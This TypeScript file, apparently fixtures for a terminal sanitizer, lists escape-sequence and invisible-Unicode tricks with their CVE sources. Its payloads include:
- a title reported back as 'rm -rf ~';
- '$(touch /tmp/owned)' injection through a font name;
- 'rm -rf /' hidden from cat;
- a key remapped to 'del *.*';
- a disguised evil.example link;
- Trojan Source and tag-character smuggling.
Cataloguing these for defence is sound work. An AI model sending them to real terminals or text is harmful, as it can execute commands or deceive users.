/** A trick that has been played on terminals, with where it was published. */
export type TerminalTrick = {
	readonly name: string;
	readonly source: string;
	readonly bytes: string;
};

const esc = '\u001B';
const bel = '\u0007';
const st = `${esc}\\`;
const ctlseqs = 'xterm, Control Sequences (ctlseqs)';

export const terminalTricks: readonly TerminalTrick[] = [
	{
		name: 'a title set and reported as if typed',
		source: 'CVE-2003-0063 (xterm), CVE-2003-0070 (VTE), CVE-2024-56803 (Ghostty)',
		bytes: `${esc}]0;rm -rf ~${bel}${esc}[21t`,
	},
	{
		name: 'a screen dumped to a file',
		source: 'CVE-2003-0021 (Eterm), CVE-2003-0022 (rxvt)',
		bytes: `${esc}]55;/home/ada/.profile${bel}`,
	},
	{
		name: 'DECRQSS that repeats what it was asked',
		source: 'CVE-2008-2383 (xterm), CVE-2022-45872 (iTerm2)',
		bytes: `${esc}P$q\nwhoami\n${st}`,
	},
	{
		name: 'a font name that is reported back',
		source: 'CVE-2022-45063 (xterm, OSC 50)',
		bytes: `${esc}]50;i$(touch /tmp/owned)${bel}${esc}]50;?${bel}`,
	},
	{
		name: 'an answer that ends with a line feed',
		source: 'CVE-2021-33477 (rxvt-unicode, ESC G Q)',
		bytes: `${esc}GQ;`,
	},
	{
		name: 'tmux control mode',
		source: 'CVE-2019-9535 (iTerm2)',
		bytes: `${esc}P1000p%begin 1 1 1\r\n%end 1 1 1\r\n${st}`,
	},
	{
		name: 'a notification whose id is reported back',
		source: 'CVE-2022-41322 (kitty, OSC 99)',
		bytes: `${esc}]99;i=a;click${st}`,
	},
	{
		name: 'a picture whose error names a file',
		source: 'CVE-2020-35605 (kitty, APC G)',
		bytes: `${esc}_Ga=t,t=f;Li4vLi4vZXRj${st}`,
	},
	{
		name: 'a window as large as memory',
		source: 'CVE-2009-1717 (Terminal of macOS, CSI 8 t)',
		bytes: `${esc}[8;65535;65535t`,
	},
	{
		name: 'combining characters without end',
		source: 'CVE-2021-27135 (xterm)',
		bytes: `a${'\u0301\u0489'.repeat(500)}`,
	},
	{
		name: 'a log entry with sequences in it',
		source: 'CVE-2003-0020 (Apache)',
		bytes: `GET /${esc}[2J${esc}[H${esc}[31mROOT${esc}[0m`,
	},
	{
		name: 'a key that types a command',
		source: 'ANSI.SYS, keyboard reassignment (“ANSI bomb”)',
		bytes: `${esc}[13;"del *.*";13p`,
	},
	{
		name: 'a link to elsewhere',
		source: 'OSC 8, Hyperlinks in terminal emulators (egmontkob)',
		bytes: `${esc}]8;;https://evil.example${st}zoom.us${esc}]8;;${st}`,
	},
	{
		name: 'the clipboard written and read',
		source: ctlseqs,
		bytes: `${esc}]52;c;cm0=${bel}${esc}]52;c;?${bel}`,
	},
	{
		name: 'a palette that hides text',
		source: ctlseqs,
		bytes: `${esc}]4;0;#000000${bel}${esc}]10;#000${bel}`,
	},
	{name: 'who are you (DA, DSR, ENQ)', source: ctlseqs, bytes: `${esc}[c${esc}[>c${esc}[6n\u0005`},
	{
		name: 'the other screen and mouse reports',
		source: ctlseqs,
		bytes: `${esc}[?1049h${esc}[?1003h`,
	},
	{name: 'the printer', source: ctlseqs, bytes: `${esc}[5i to paper ${esc}[4i`},
	{name: 'a full reset', source: ctlseqs, bytes: `${esc}c`},
	{name: 'another character set', source: 'ECMA-35', bytes: `${esc}(0\u000E lqk \u000F`},
	{
		name: '8-bit CSI, OSC, DCS',
		source: 'ECMA-48',
		bytes: '\u009B2J\u009D0;owned\u009C\u0090q\u009C',
	},
	{name: 'APC, PM and SOS', source: 'ECMA-48', bytes: `${esc}_a${st}${esc}^b${st}${esc}Xc${st}`},
	{name: 'sixel graphics', source: 'DEC VT330/VT340', bytes: `${esc}Pq#0;2;0;0;0~~@@vv${st}`},
	{name: 'a user-defined key', source: 'DEC VT220, DECUDK', bytes: `${esc}P0;1|17/726d0d${st}`},
	{name: 'a stored macro', source: 'DEC VT420, DECDMAC', bytes: `${esc}P1;0;0!zrm${st}${esc}[1*z`},
	{
		name: 'a file sent to the downloads',
		source: 'iTerm2, Proprietary escape codes (OSC 1337)',
		bytes: `${esc}]1337;File=name=LnByb2ZpbGU=:cm0=${bel}`,
	},
	{
		name: 'lines hidden from cat',
		source: 'what cat -v is for: carriage return, backspace, erase',
		bytes: `rm -rf /\r${esc}[Kecho hello\b\b\b\b\b`,
	},
	{
		name: 'an escape within an escape',
		source: 'filters that go once',
		bytes: `${esc}${esc}[[31m${esc}${esc}]]0;x${bel}`,
	},
	{
		name: 'an invisible character within',
		source: 'filters in the wrong order',
		bytes: `${esc}\u200B[31m\u009B\u00AD2J`,
	},
	{
		name: 'source that reads otherwise than it runs',
		source: 'CVE-2021-42574 (Trojan Source)',
		bytes: '\u202E\u2066// check\u2069 \u2066begin admin\u202C\u202D\u2067\u2068',
	},
	{
		name: 'text in tag characters',
		source: 'Unicode Tags (“ASCII smuggling”)',
		bytes: '\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F}',
	},
	{
		name: 'bytes in variation selectors',
		source: 'Paul Butler, Smuggling arbitrary data through an emoji',
		bytes: '😀\u{E0158}\u{E0155}\u{E015C}\uFE03\uFE04',
	},
	{
		name: 'what cannot be seen',
		source: 'Unicode, Default_Ignorable_Code_Point and noncharacters',
		bytes:
			'\u00AD\u034F\u061C\u115F\u1160\u17B4\u17B5\u180E\u2065\u3164\uFFA0\uFFF0\uFEFF\uFFFE\uFFFF\uFDD0\uFDEF\u{1D173}\u{1BCA0}\u{1FFFE}\u{10FFFF}\u{E0FFF}',
	},
];
